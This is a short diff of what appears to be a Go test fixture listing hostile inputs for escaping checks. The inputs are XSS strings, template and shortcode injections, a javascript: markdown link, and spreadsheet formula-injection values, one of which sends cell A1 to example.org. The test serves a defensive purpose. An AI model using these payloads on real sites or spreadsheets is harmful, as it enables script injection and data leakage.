@@ -22,7 +22,7 @@ var hostile = []string{
 	`</title><img src=x onerror=alert(1)>`,
 	`]]></svg><script>alert(1)</script>`,
 	`{{ printf "%s" site.Title }}`,
-	`{{< fact "x.y" >}}`,
+	`{{< param "x.y" >}}`, // one that a text of a table may hold is a problem
 	`[link](javascript:alert(1))`,
 	`=HYPERLINK("http://example.org/?x="&A1,"y")`,
 	`+1+1`, `-2+3`, `@SUM(1)`,
